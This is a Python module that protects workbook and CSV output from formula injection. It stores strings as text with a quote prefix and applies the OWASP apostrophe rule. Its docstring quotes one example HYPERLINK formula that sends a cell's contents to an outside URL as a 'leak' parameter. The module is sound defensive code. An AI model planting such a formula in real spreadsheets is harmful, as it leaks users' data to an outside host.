"""Values the tool writes into a workbook or a CSV are text, never formulas.

A contributor's cell may hold ``=HYPERLINK("http://…?leak="&A2,"Cliquez")``
typed as text; openpyxl stores any string that starts with ``=`` as a formula
(and ``#DIV/0!`` as an error), which Excel and LibreOffice would then
evaluate in the annotated copy, its Rapport sheet or an exported workbook.
:func:`as_text` stores such strings as plain text (data type ``s``) with the
« quote prefix » style, so the cell also stays text when someone edits it.

The contributor's own formulas in the cells of their workbook are never
passed here: ``annotate`` only adds fills and comments to those.

For CSV files, :func:`csv_safe` applies the OWASP rule against CSV
injection: a value starting with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return gets a leading apostrophe, which spreadsheets show as text.
"""

from __future__ import annotations

from typing import Iterable

# What a spreadsheet may read as the start of a formula (OWASP, CSV injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def as_text(cell):
    """Store a string value of ``cell`` as text; return the cell."""
    value = cell.value
    if isinstance(value, str):
        if cell.data_type != "s":  # 'f' (formula) or 'e' (error) as openpyxl guessed
            cell.data_type = "s"
        if value.startswith(FORMULA_START):
            cell.quotePrefix = True
    return cell


def sheet_as_text(ws) -> None:
    """Every string cell of a sheet the tool wrote itself, stored as text."""
    for row in ws.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                as_text(cell)


def sheets_as_text(sheets: Iterable) -> None:
    for ws in sheets:
        sheet_as_text(ws)


def csv_safe(value: str) -> str:
    """``value`` with a leading apostrophe when a spreadsheet would read it as
    a formula."""
    return "'" + value if value.startswith(FORMULA_START) else value
